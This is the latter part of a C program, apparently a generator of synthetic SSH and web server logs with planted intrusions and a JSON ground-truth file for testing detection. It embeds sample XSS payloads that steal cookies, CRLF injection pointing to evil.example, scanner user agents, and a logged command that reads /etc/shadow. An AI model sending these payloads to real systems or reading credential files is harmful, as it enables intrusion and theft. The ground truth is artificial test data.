static const char *const WEB_XSS[] = {
    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "GET /news?title=<img%20src=x%20onerror=alert(document.cookie)>",
    "GET /search?q=javascript:alert(1)", "GET /flights?from=%22%3E%3Csvg/onload=alert(1)%3E"};
static const char *const WEB_CRLF[] = {"GET /redirect?url=%0d%0aSet-Cookie:%20session=attacker",
                                       "GET /lang?l=ja%0D%0ALocation:%20http://evil.example/"};
static const char *const ATTACK_UAS[] = {"sqlmap/1.7.2#stable (https://sqlmap.org)",
                                         "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007102)",
                                         "curl/8.4.0", "python-requests/2.31.0"};

static int real_user(int need_password)
{
    for (;;) {
        int i = rndi(0, NUSERS - 1);
        if (!need_password || users[i].password)
            return i;
    }
}

/* One failed password try by ep's source for `user` (invalid: the account does not exist),
 * on the connection ep->pid/port (a new connection every `per_conn` tries). */
static void fail_try(int64_t t, struct ep *e, const char *ip, const char *user, int invalid)
{
    int h = e->host;
    if (e->pid_left <= 0) {
        e->pid = rnd_pid();
        e->port = rnd_port();
        e->pid_left = invalid ? 1 : rndi(1, 3);
        if (invalid)
            line(t, h, "sshd", e->pid, "Invalid user %s from %s port %u", user, ip, e->port);
    }
    if (invalid) {
        line(t, h, "sshd", e->pid, "pam_unix(sshd:auth): check pass; user unknown");
        line(t, h, "sshd", e->pid,
             "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
             "rhost=%s",
             ip);
    } else {
        line(t, h, "sshd", e->pid,
             "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
             "rhost=%s  user=%s",
             ip, user);
    }
    line(t + 2 * US, h, "sshd", e->pid, "Failed password for %s%s from %s port %u ssh2",
         invalid ? "invalid user " : "", user, ip, e->port);
    e->count++;
    if (--e->pid_left == 0) {
        line(t + 2 * US, h, "sshd", e->pid,
             "Received disconnect from %s port %u:11: Bye Bye [preauth]", ip, e->port);
        line(t + 2 * US, h, "sshd", e->pid, "Disconnected from %s%s %s port %u [preauth]",
             invalid ? "invalid user " : "authenticating user ", user, ip, e->port);
    }
}

static void plant_account(int64_t t, struct ep *created, struct ep *priv, int h, const char *admin,
                          unsigned admin_uid, const char *newname)
{
    unsigned uid = (unsigned)rndi(1100, 1999);
    char cmd[120];
    if (created) {
        cur_ep = created;
        snprintf(cmd, sizeof(cmd), "/usr/sbin/useradd -m -s /bin/bash %s", newname);
        sudo_cmd(t, h, admin, admin_uid, 1, cmd);
        line(t, h, "useradd", rnd_pid(), "new group: name=%s, GID=%u", newname, uid);
        line(t, h, "useradd", rnd_pid(),
             "new user: name=%s, UID=%u, GID=%u, home=/home/%s, shell=/bin/bash, from=/dev/pts/1",
             newname, uid, uid, newname);
        created->count = 1;
    }
    if (priv) {
        cur_ep = priv;
        if (hosts[h].rfc3339) { /* RHEL-style hosts: wheel via gpasswd */
            snprintf(cmd, sizeof(cmd), "/usr/bin/gpasswd -a %s wheel", newname);
            sudo_cmd(t + US, h, admin, admin_uid, 1, cmd);
            line(t + US, h, "gpasswd", rnd_pid(), "user %s added by %s to group wheel", newname,
                 admin);
        } else {
            snprintf(cmd, sizeof(cmd), "/usr/sbin/usermod -aG sudo %s", newname);
            sudo_cmd(t + US, h, admin, admin_uid, 1, cmd);
            line(t + US, h, "usermod", rnd_pid(), "add '%s' to group 'sudo'", newname);
            line(t + US, h, "usermod", rnd_pid(), "add '%s' to shadow group 'sudo'", newname);
        }
        priv->count = 1;
    }
}

static void step_ep(int64_t t, int i)
{
    struct ep *e = eps[i];
    cur_ep = e;
    int64_t next = 0;
    switch (e->cat) {
    case C_PWLIST: {
        const char *name = LIST_NAMES[(e->done * 7 + e->todo) % NLIST];
        char buf[40];
        if (e->done >= (int)NLIST) { /* past the list: numbered variants */
            snprintf(buf, sizeof(buf), "%s%d", LIST_NAMES[e->done % NLIST],
                     100 + e->done / (int)NLIST);
            name = buf;
        }
        fail_try(t, e, e->ip, name, strcmp(name, "root") != 0);
        e->pid_left = 0;
        if (++e->done < e->todo)
            next = t + rndi(2, 25) * US;
        break;
    }
    case C_BRUTE: {
        int invalid = strcmp(e->user, "root") != 0 && !strchr(e->user, '-');
        if (e->repeat_pending) { /* rsyslog folding identical lines of one connection */
            line(t, e->host, "sshd", e->pid,
                 "message repeated %d times: [ Failed password for %s from %s port %u ssh2]",
                 e->repeat_pending, e->user, e->ip, e->port);
            line(t, e->host, "sshd", e->pid,
                 "Connection closed by authenticating user %s %s port %u [preauth]", e->user, e->ip,
                 e->port);
            line(t, e->host, "sshd", e->pid,
                 "PAM %d more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
                 "rhost=%s  user=%s",
                 e->repeat_pending, e->ip, e->user);
            e->count += e->repeat_pending;
            e->done += e->repeat_pending;
            e->repeat_pending = 0;
            e->pid_left = 0;
        } else {
            fail_try(t, e, e->ip, e->user, invalid);
            e->done++;
            if (!invalid && !hosts[e->host].rfc3339 && e->pid_left == 2 && rndf() < 0.3)
                e->repeat_pending = 2;
        }
        if (e->done < e->todo)
            next = t + rndi(1, 6) * US;
        break;
    }
    case C_SPRAY: {
        int k = e->done++;
        e->pid_left = 0;
        snprintf(e->ip, sizeof(e->ip), "%s", e->srcs[e->at_src[k]]);
        fail_try(t, e, e->ip, e->accts[e->at_acct[k]], 0);
        e->ip[0] = 0;
        if (e->done < e->todo)
            next = e->at[e->done];
        break;
    }
    case C_AFTERFAIL: {
        struct user *u = &users[e->state];
        if (e->done < e->todo) {
            fail_try(t, e, e->ip, u->name, 0);
            e->done++;
            next = t + rndi(3, 30) * US;
        } else if (e->done == e->todo) {
            struct civil c = local_civil(t);
            if (!is_workday(t) || c.hh < 9 || c.hh >= 18) /* the intruder logs in at night */
                e->also |= 1u << C_OFFHOURS;
            e->pid = rnd_pid();
            e->port = rnd_port();
            e->pid_left = (int)++hosts[e->host].session_seq;
            session_open(t, e->host, u->name, u->uid, e->ip, 1, u->fp, e->pid, e->port,
                         (unsigned)e->pid_left);
            sudo_cmd(t + 40 * US, e->host, u->name, u->uid, 3, "/usr/bin/cat /etc/shadow");
            e->done++;
            next = t + rndi(60, 300) * US;
        } else if (e->done == e->todo + 1 && (e->child_created || e->child_priv)) {
            plant_account(t, e->child_created, e->child_priv, e->host, u->name, u->uid,
                          e->child_created ? e->child_created->user : e->child_priv->user);
            cur_ep = e;
            e->done++;
            next = t + rndi(60, 600) * US;
        } else {
            session_close(t, e->host, u->name, e->ip, e->pid, e->port, (unsigned)e->pid_left);
        }
        break;
    }
    case C_NEWSRC:
    case C_OFFHOURS:
    case C_UNUSED: {
        if (!e->done && e->cat != C_UNUSED && !users[e->state].last_login) {
            /* the planned user has not logged in yet: take one with a habit to break */
            int k = e->state;
            while (!users[k].last_login)
                k = (k + 1) % NUSERS;
            e->state = k;
            snprintf(e->user, sizeof(e->user), "%s", users[k].name);
            if (e->cat == C_OFFHOURS)
                snprintf(e->ip, sizeof(e->ip), "%s", users[k].ws);
            if (e->cat == C_OFFHOURS || strncmp(e->ip, "10.", 3) == 0) /* their own host */
                e->host = users[k].hosts[0];
        }
        struct user *u = &users[e->state];
        if (!e->done && e->cat == C_UNUSED) {
            char prev[64];
            iso_utc(u->last_login, prev);
            snprintf(e->detail, sizeof(e->detail), "\"previous_login\":\"%s\",\"idle_days\":%d",
                     prev, (int)((t - u->last_login) / DAY));
        }
        if (!e->done) {
            e->pid = rnd_pid();
            e->port = rnd_port();
            e->pid_left = (int)++hosts[e->host].session_seq;
            session_open(t, e->host, u->name, u->uid, e->ip, u->password, u->fp, e->pid, e->port,
                         (unsigned)e->pid_left);
            e->count = 1;
            e->done = 1;
            next = t + rndi(120, 1800) * US;
        } else {
            session_close(t, e->host, u->name, e->ip, e->pid, e->port, (unsigned)e->pid_left);
        }
        break;
    }
    case C_CREATED:
    case C_PRIV: {
        struct user *admin = &users[e->state];
        if (e->cat == C_CREATED)
            plant_account(t, e, NULL, e->host, admin->name, admin->uid, e->user);
        else
            plant_account(t, NULL, e, e->host, admin->name, admin->uid, e->user);
        break;
    }
    case C_WEB: {
        int kinds[5], nk = 0;
        for (int b = 0; b < 5; b++)
            if (e->web_kinds & (1 << b))
                kinds[nk++] = b;
        int k = kinds[rndi(0, nk - 1)];
        const char *req = k == 0   ? WEB_SQLI[rndi(0, 4)]
                          : k == 1 ? WEB_TRAV[rndi(0, 3)]
                          : k == 2 ? WEB_CMDI[rndi(0, 3)]
                          : k == 3 ? WEB_XSS[rndi(0, 3)]
                                   : WEB_CRLF[rndi(0, 1)];
        static const int st[] = {400, 403, 404, 404, 500, 200};
        web_line(t, e->host, e->ip, req, st[rndi(0, 5)], rndi(150, 600), ATTACK_UAS[e->state]);
        e->count++;
        if (++e->done < e->todo)
            next = t + rndi(1, 12) * US;
        break;
    }
    }
    cur_ep = NULL;
    if (next)
        push(next, K_EP, i);
}

/* ---- planning ---- */
static int64_t rand_time(int64_t from, int64_t to)
{
    return from + (int64_t)(rndf() * (double)(to - from));
}
/* A random time in [from, to) on a weekday 09:00–17:00 local (any time if the window has none). */
static int64_t rand_work_time(int64_t from, int64_t to)
{
    for (int k = 0; k < 10000; k++) {
        int64_t t = rand_time(from, to);
        struct civil c = local_civil(t);
        if (is_workday(t) && c.hh >= 9 && c.hh < 17)
            return t;
    }
    return rand_time(from, to);
}
static void plan_attacks(uint64_t n, int days)
{
    double sc = (double)n;
    int n_list = (int)fmax(6, sc * 0.10 / 420), n_brute = (int)fmax(6, sc * 0.06 / 350),
        n_spray = (int)fmax(3, sc * 0.004 / 300), n_after = (int)fmax(4, sc / 250000),
        n_new = (int)fmax(4, sc / 250000), n_off = (int)fmax(4, sc / 250000),
        n_created = (int)fmax(3, sc / 500000), n_priv = (int)fmax(3, sc / 500000),
        n_unused = (int)fmin(NDORMANT / 2, fmax(3, sc / 500000)),
        n_gap = (int)fmin(2 * nheartbeats, fmax(2, sc / 1000000)), n_web = (int)fmax(6, sc / 50000);
    int64_t a0 = t_begin + DAY, a1 = t_end - 6 * HOUR;           /* attacks inside the span */
    int64_t later = t_begin + (days >= 14 ? 7 : days / 2) * DAY; /* after users have habits */
    for (int i = 0; i < n_list; i++) {
        struct ep *e = ep_new(C_PWLIST);
        e->host = gateways[rndi(0, ngateways - 1)];
        pool_addr(0, rndf() < 0.05, e->ip);
        e->todo = rndi(20, 150);
        snprintf(e->detail, sizeof(e->detail), "\"distinct_users\":%d", e->todo);
        e->start = rand_time(a0, a1);
    }
    for (int i = 0; i < n_brute; i++) {
        struct ep *e = ep_new(C_BRUTE);
        e->host = gateways[rndi(0, ngateways - 1)];
        pool_addr(0, rndf() < 0.05, e->ip);
        double r = rndf();
        snprintf(e->user, sizeof(e->user), "%s",
                 r < 0.6   ? "root"
                 : r < 0.8 ? users[real_user(0)].name
                           : (const char *[]){"admin", "oracle", "ubuntu"}[rndi(0, 2)]);
        e->todo = rndi(20, 300);
        e->start = rand_time(a0, a1);
    }
    for (int i = 0; i < n_spray; i++) {
        struct ep *e = ep_new(C_SPRAY);
        e->host = gateways[rndi(0, ngateways - 1)];
        e->nsrc = rndi(20, 60);
        e->nacct = rndi(2, 4);
        e->srcs = calloc((size_t)e->nsrc, sizeof(*e->srcs));
        for (int s = 0; s < e->nsrc; s++)
            pool_addr(0, 0, e->srcs[s]);
        for (int a = 0; a < e->nacct; a++) {
            int u;
            int dup;
            do { /* distinct accounts */
                u = real_user(0);
                dup = 0;
                for (int b = 0; b < a; b++)
                    dup |= strcmp(e->accts[b], users[u].name) == 0;
            } while (dup);
            snprintf(e->accts[a], sizeof(e->accts[a]), "%s", users[u].name);
        }
        e->start = rand_time(a0, a1 - HOUR);
        /* each source tries one or two of the accounts, once or twice each, within the hour */
        e->at = calloc((size_t)e->nsrc * 8, sizeof(*e->at));
        e->at_src = calloc((size_t)e->nsrc * 8, sizeof(int));
        e->at_acct = calloc((size_t)e->nsrc * 8, sizeof(int));
        if (!e->srcs || !e->at || !e->at_src || !e->at_acct)
            abort();
        for (int s = 0; s < e->nsrc; s++) {
            int na = rndi(1, 2), a0i = rndi(0, e->nacct - 1);
            for (int a = 0; a < na; a++)
                for (int k = rndi(1, 2); k > 0; k--) {
                    e->at[e->todo] = e->start + (int64_t)(rndf() * (double)HOUR);
                    e->at_src[e->todo] = s;
                    e->at_acct[e->todo] = (a0i + a) % e->nacct;
                    e->todo++;
                }
        }
        for (int x = 1; x < e->todo; x++) /* attempts in time order (insertion sort: small) */
            for (int y = x; y > 0 && e->at[y] < e->at[y - 1]; y--) {
                int64_t tt = e->at[y];
                e->at[y] = e->at[y - 1], e->at[y - 1] = tt;
                int s = e->at_src[y];
                e->at_src[y] = e->at_src[y - 1], e->at_src[y - 1] = s;
                s = e->at_acct[y];
                e->at_acct[y] = e->at_acct[y - 1], e->at_acct[y - 1] = s;
            }
        e->start = e->at[0];
    }
    for (int i = 0; i < n_after; i++) {
        struct ep *e = ep_new(C_AFTERFAIL);
        e->host = gateways[rndi(0, ngateways - 1)];
        e->state = real_user(1);
        snprintf(e->user, sizeof(e->user), "%s", users[e->state].name);
        pool_addr(0, 0, e->ip);
        e->todo = rndi(5, 25);
        e->also = 1u << C_NEWSRC | (e->todo >= 10 ? 1u << C_BRUTE : 0);
        snprintf(e->detail, sizeof(e->detail), "\"failures\":%d", e->todo);
        e->start = rand_time(a0, a1 - HOUR);
        if (i % 2 == 0) { /* the intruder makes itself an account and an administrator */
            char name[40];
            snprintf(name, sizeof(name), "svc-%s%d", (const char *[]){"upd", "mon", "bak"}[i % 3],
                     i);
            e->child_created = ep_new(C_CREATED);
            e->child_priv = ep_new(C_PRIV);
            snprintf(e->child_created->user, sizeof(e->user), "%s", name);
            snprintf(e->child_priv->user, sizeof(e->user), "%s", name);
            e->child_created->host = e->child_priv->host = e->host;
            e->child_created->start = e->child_priv->start = -1; /* written by the parent */
        }
    }
    for (int i = 0; i < n_new; i++) {
        struct ep *e = ep_new(C_NEWSRC);
        e->state = real_user(0);
        struct user *u = &users[e->state];
        snprintf(e->user, sizeof(e->user), "%s", u->name);
        if (i % 2) {
            pool_addr(0, 0, e->ip);
            e->host = gateways[rndi(0, ngateways - 1)];
        } else {
            snprintf(e->ip, sizeof(e->ip), "10.30.%d.%d", i / 200, i % 200 + 10);
            e->host = u->hosts[0];
        }
        e->start = rand_work_time(later, a1);
    }
    for (int i = 0; i < n_off; i++) {
        struct ep *e = ep_new(C_OFFHOURS);
        e->state = real_user(0);
        struct user *u = &users[e->state];
        snprintf(e->user, sizeof(e->user), "%s", u->name);
        snprintf(e->ip, sizeof(e->ip), "%s", u->ws);
        e->host = u->hosts[0];
        int64_t d = local_day_start(rand_time(later, a1 - DAY));
        e->start = d + 2 * HOUR + (int64_t)(rndf() * 2 * (double)HOUR);
    }
    for (int i = 0; i < n_created + n_priv; i++) {
        struct ep *e = ep_new(i < n_created ? C_CREATED : C_PRIV);
        do
            e->state = real_user(0);
        while (!users[e->state].admin);
        e->host = users[e->state].hosts[0];
        if (e->cat == C_CREATED) /* a new employee: a name no existing account has */
            snprintf(e->user, sizeof(e->user), "%s-%c%d", SURNAMES[rndi(0, NSURNAMES - 1)],
                     INITIALS[rndi(0, (int)sizeof(INITIALS) - 2)], 50 + i);
        else
            snprintf(e->user, sizeof(e->user), "%s", users[real_user(0)].name);
        e->start = rand_work_time(a0, a1);
    }
    for (int i = 0; i < n_unused; i++) {
        struct ep *e = ep_new(C_UNUSED);
        e->state = NUSERS + i; /* a dormant account */
        struct user *u = &users[e->state];
        snprintf(e->user, sizeof(e->user), "%s", u->name);
        snprintf(e->ip, sizeof(e->ip), "%s", u->ws);
        e->host = u->hosts[0];
        e->start = rand_work_time(t_end - 5 * DAY, a1);
    }
    for (int i = 0; i < n_gap; i++) {
        struct ep *e = ep_new(C_GAP);
        e->host = heartbeats[i % nheartbeats];
        struct host *H = &hosts[e->host];
        int64_t len = rndi(70, 240) * MINUTE;
        int64_t half = (t_end - t_begin) / 2;
        int64_t from = i < nheartbeats ? t_begin + DAY : t_begin + half;
        int64_t to = i < nheartbeats ? t_begin + half - DAY : t_end - DAY;
        e->start = rand_time(from, to - len);
        H->gap_from[H->ngap] = e->start;
        H->gap_to[H->ngap] = e->start + len;
        H->gap_ep[H->ngap++] = e;
        snprintf(e->detail, sizeof(e->detail), "\"silent_minutes\":%d", (int)(len / MINUTE));
        e->start = -2; /* not an actor: the host's own lines show the gap */
    }
    for (int i = 0; i < n_web; i++) {
        struct ep *e = ep_new(C_WEB);
        e->host = webs[rndi(0, nwebs - 1)];
        pool_addr(0, rndf() < 0.05, e->ip);
        e->web_kinds = 1 << rndi(0, 4);
        if (rndf() < 0.5)
            e->web_kinds |= 1 << rndi(0, 4);
        e->state = rndi(0, 3);
        e->todo = rndi(5, 40);
        e->start = rand_time(a0, a1);
        char kinds[100] = "";
        static const char *const kn[] = {"sql_injection", "traversal", "command_injection", "xss",
                                         "header_injection"};
        for (int b = 0; b < 5; b++)
            if (e->web_kinds & (1 << b))
                snprintf(kinds + strlen(kinds), sizeof(kinds) - strlen(kinds), "%s\"%s\"",
                         kinds[0] ? "," : "", kn[b]);
        snprintf(e->detail, sizeof(e->detail), "\"kinds\":[%s]", kinds);
    }
    for (size_t i = 0; i < neps; i++)
        if (eps[i]->start >= 0)
            push(eps[i]->start, K_EP, (int)i);
}

/* ---- the ground truth ---- */
static void json_str(FILE *f, const char *s)
{
    fputc('"', f);
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        if (*p == '"' || *p == '\\')
            fprintf(f, "\\%c", *p);
        else if (*p < 0x20)
            fprintf(f, "\\u%04x", *p);
        else
            fputc(*p, f);
    }
    fputc('"', f);
}
static int by_first(const void *a, const void *b)
{
    const struct ep *x = *(struct ep *const *)a, *y = *(struct ep *const *)b;
    return x->first_t < y->first_t ? -1 : x->first_t > y->first_t;
}
static int write_truth(const char *path)
{
    FILE *f = fopen(path, "w");
    if (!f) {
        fprintf(stderr, "gen_authlog: cannot write %s: %s\n", path, strerror(errno));
        return -1;
    }
    qsort(eps, neps, sizeof(*eps), by_first);
    for (size_t i = 0; i < neps; i++) {
        struct ep *e = eps[i];
        if (!e->ev_first) {
            fprintf(stderr, "gen_authlog: planted %s wrote no line (a bug)\n", CAT_NAME[e->cat]);
            fclose(f);
            return -1;
        }
        char a[64], b[64];
        iso_utc(e->first_t, a);
        iso_utc(e->last_t, b);
        fprintf(f, "{\"category\":\"%s\"", CAT_NAME[e->cat]);
        if (e->ip[0])
            fprintf(f, ",\"src_ip\":\"%s\"", e->ip);
        if (e->cat == C_SPRAY) {
            fputs(",\"src_ips\":[", f);
            for (int s = 0; s < e->nsrc; s++)
                fprintf(f, "%s\"%s\"", s ? "," : "", e->srcs[s]);
            fputs("],\"users\":[", f);
            for (int s = 0; s < e->nacct; s++)
                fprintf(f, "%s\"%s\"", s ? "," : "", e->accts[s]);
            fputc(']', f);
        }
        if (e->user[0])
            fprintf(f, ",\"user\":\"%s\"", e->user);
        fprintf(f, ",\"host\":\"%s\",\"first\":\"%s\",\"last\":\"%s\",\"count\":%d,\"lines\":%ld",
                hosts[e->host].name, a, b, e->count, e->lines);
        if (e->also) {
            fputs(",\"also\":[", f);
            int k = 0;
            for (int c = 0; c < C_N; c++)
                if (e->also & (1u << c))
                    fprintf(f, "%s\"%s\"", k++ ? "," : "", CAT_NAME[c]);
            fputc(']', f);
        }
        if (e->detail[0])
            fprintf(f, ",%s", e->detail);
        fputs(",\"evidence\":[", f);
        json_str(f, e->ev_first);
        fputc(',', f);
        json_str(f, e->ev_last);
        fputs("]}\n", f);
    }
    if (fclose(f) != 0)
        return -1;
    return 0;
}

/* ---- setup ---- */
static void add_host(const char *name, int role)
{
    struct host *H = &hosts[nhosts];
    snprintf(H->name, sizeof(H->name), "%s", name);
    H->role = role;
    H->rfc3339 = (int)(rnd64() & 1);
    H->logind_pid = (unsigned)rndi(500, 900);
    H->session_seq = (unsigned)rndi(1, 5000);
    if (role == ROLE_GATEWAY)
        gateways[ngateways++] = nhosts;
    else if (role == ROLE_WEB)
        webs[nwebs++] = nhosts;
    else if (role == ROLE_HEARTBEAT)
        heartbeats[nheartbeats++] = nhosts;
    if (role == ROLE_INTERNAL || role == ROLE_HEARTBEAT)
        internals[ninternals++] = nhosts;
    nhosts++;
}
static void setup_hosts(void)
{
    static const char *const gw[] = {"gw01", "gw02", "bastion01", "sftp01"};
    for (int i = 0; i < 4; i++)
        add_host(gw[i], ROLE_GATEWAY);
    char name[24];
    for (int i = 1; i <= 4; i++) {
        snprintf(name, sizeof(name), "web%02d", i);
        add_host(name, ROLE_WEB);
    }
    for (int i = 1; i <= 4; i++) {
        snprintf(name, sizeof(name), "fids%02d", i);
        add_host(name, ROLE_HEARTBEAT);
    }
    static const char *const fam[] = {"app", "db", "aodb", "bhs", "cctv", "file", "ops", "mon"};
    static const int cnt[] = {12, 6, 2, 4, 3, 3, 10, 2};
    for (int f = 0; f < 8; f++)
        for (int i = 1; i <= cnt[f]; i++) {
            snprintf(name, sizeof(name), "%s%02d", fam[f], i);
            add_host(name, ROLE_INTERNAL);
        }
}
static void setup_users(void)
{
    for (int i = 0; i < NUSERS + NDORMANT; i++) {
        struct user *u = &users[i];
        /* surname-initial, a digit when the pair is taken (as an IT department does it) */
        const char *s = SURNAMES[i % NSURNAMES];
        char ini = INITIALS[(i / NSURNAMES) % (sizeof(INITIALS) - 1)];
        int round = i / (int)(NSURNAMES * (sizeof(INITIALS) - 1));
        if (round)
            snprintf(u->name, sizeof(u->name), "%s-%c%d", s, ini, round + 1);
        else
            snprintf(u->name, sizeof(u->name), "%s-%c", s, ini);
        u->uid = 1001 + (unsigned)i;
        snprintf(u->ws, sizeof(u->ws), "10.20.%d.%d", i / 250, i % 250 + 2);
        if (rndf() < 0.3)
            snprintf(u->vpn, sizeof(u->vpn), "10.8.%d.%d", i / 250, i % 250 + 2);
        u->nhosts = rndi(1, 3);
        for (int k = 0; k < u->nhosts; k++)
            u->hosts[k] = rndf() < 0.2 ? gateways[rndi(0, 1)] : internals[rndi(0, ninternals - 1)];
        u->password = rndf() < 0.35;
        u->admin = rndf() < 0.25;
        u->dormant = i >= NUSERS;
        make_fp(u->fp, rnd64());
        if (u->dormant) { /* one host, one address; never a heartbeat host (gaps drop lines) */
            u->vpn[0] = 0;
            while (hosts[u->hosts[0]].role == ROLE_HEARTBEAT)
                u->hosts[0] = internals[rndi(0, ninternals - 1)];
            u->nhosts = 1;
        }
    }
    nusers = NUSERS + NDORMANT;
    /* planted logins of staff go to hosts[0]: keep it off the heartbeat hosts too */
    for (int i = 0; i < NUSERS; i++)
        while (hosts[users[i].hosts[0]].role == ROLE_HEARTBEAT)
            users[i].hosts[0] = internals[rndi(0, ninternals - 1)];
}

static int usage(void)
{
    fputs("usage: gen_authlog [--lines N] [--days D] [--seed S] [--start YYYY-MM-DD] "
          "[--truth FILE]\n",
          stderr);
    return 2;
}

int main(int argc, char **argv)
{
    uint64_t n = 1000000, seed = 42;
    int days = 42, y = 2026, m = 10, d = 19;
    const char *truth = NULL;
    for (int i = 1; i < argc; i += 2) { /* --option value pairs */
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        char *end = NULL;
        if (!v)
            return usage();
        if (strcmp(argv[i], "--lines") == 0)
            n = strtoull(v, &end, 10);
        else if (strcmp(argv[i], "--days") == 0)
            days = (int)strtol(v, &end, 10);
        else if (strcmp(argv[i], "--seed") == 0)
            seed = strtoull(v, &end, 10);
        else if (strcmp(argv[i], "--truth") == 0)
            truth = v, end = (char *)"";
        else if (strcmp(argv[i], "--start") == 0) {
            if (sscanf(v, "%d-%d-%d", &y, &m, &d) != 3 || m < 1 || m > 12 || d < 1 || d > 31) {
                fprintf(stderr, "gen_authlog: bad --start \"%s\" (expected YYYY-MM-DD)\n", v);
                return 2;
            }
            end = (char *)"";
        } else
            return usage();
        if (!end || *end) {
            fprintf(stderr, "gen_authlog: bad value \"%s\" for %s\n", v, argv[i]);
            return 2;
        }
    }
    if (n < 10000 || days < 7 || days > 3650) {
        fprintf(stderr, "gen_authlog: --lines must be at least 10000 and --days 7 to 3650\n");
        return 2;
    }
    rng_state = seed;
    t_begin = days_from_civil(y, m, d) * DAY - TZ_OFF; /* local midnight */
    t_end = t_begin + days * DAY;
    setup_hosts();
    setup_users();
    for (int a = 0; a < 4; a++)
        make_fp(autos[a].fp, rnd64());

    /* Rates: fixed heartbeat lines, the rest as shares of what they leave of n. */
    double span = (double)(t_end - t_begin);
    double hb = (double)nheartbeats * days * 1440.0;
    n = (uint64_t)fmax((double)n - hb, (double)n * 0.3);
    int weekdays = 0;
    for (int k = 0; k < days; k++)
        weekdays += is_workday(t_begin + k * DAY + 12 * HOUR);
    double cron_lines = 0.12 * (double)n; /* 3 lines per run */
    for (int h = 0; h < nhosts; h++) {
        double runs = cron_lines / 3 / nhosts;
        int per = (int)(span / MINUTE / (runs > 1 ? runs : 1));
        hosts[h].cron_minutes = per < 1 ? 1 : per;
    }
    rate_noise = 0.06 * (double)n / 3.0 / span;
    rate_scan = 0.06 * (double)n / 2.0 / span;
    rate_web = 0.30 * (double)n / span;
    auto_gap_us = span * 4 / (0.10 * (double)n / 10.0);
    double sess = 0.12 * (double)n / 10.0 / NUSERS / (weekdays ? weekdays : 1);
    for (int i = 0; i < NUSERS; i++)
        users[i].sessions_per_day = sess * (0.3 + 1.4 * rndf()) + 0.05;
    nclients = (uint32_t)fmax(1000, fmin(200000, (double)n / 100));
    clients = calloc(nclients, sizeof(*clients));
    if (!clients)
        abort();
    for (uint32_t c = 0; c < nclients; c++)
        pool_addr(2, rndf() < 0.1, clients[c]);

    for (int h = 0; h < nhosts; h++) {
        if (hosts[h].role == ROLE_HEARTBEAT)
            push(t_begin + rndi(0, 59) * US, K_HEARTBEAT, h);
        push(t_begin + rndi(0, hosts[h].cron_minutes * 60 - 1) * US, K_CRON, h);
    }
    push(t_begin, K_NOISE, 0);
    push(t_begin, K_SCAN, 0);
    push(t_begin, K_WEB, 0);
    for (int a = 0; a < 4; a++)
        push(t_begin + rnd_exp(auto_gap_us), K_AUTO, a);
    for (int i = 0; i < NUSERS; i++)
        user_next_login(t_begin, i);
    for (int i = NUSERS; i < nusers; i++) /* dormant: one login on the first two workdays */
        push(after_work_time(t_begin, (int64_t)(rndf() * 18 * (double)HOUR)), K_USER, i);
    plan_attacks(n, days);

    while (hn) {
        struct actor a = pop();
        switch (a.kind) {
        case K_HEARTBEAT:
            step_heartbeat(a.t, a.idx);
            break;
        case K_CRON:
            step_cron(a.t, a.idx);
            break;
        case K_NOISE:
            step_noise(a.t);
            break;
        case K_USER:
            step_user(a.t, a.idx);
            break;
        case K_AUTO:
            step_auto(a.t, a.idx);
            break;
        case K_SCAN:
            step_scan(a.t);
            break;
        case K_WEB:
            step_web(a.t);
            break;
        default:
            step_ep(a.t, a.idx);
        }
    }
    out_flush();
    if (fflush(stdout) != 0) {
        fprintf(stderr, "gen_authlog: write error: %s\n", strerror(errno));
        return 1;
    }
    int rc = truth ? write_truth(truth) : 0;
    fprintf(stderr, "gen_authlog: %llu lines, %zu planted attacks, %d days from %04d-%02d-%02d\n",
            (unsigned long long)nlines, neps, days, y, m, d);
    return rc ? 1 : 0;
}
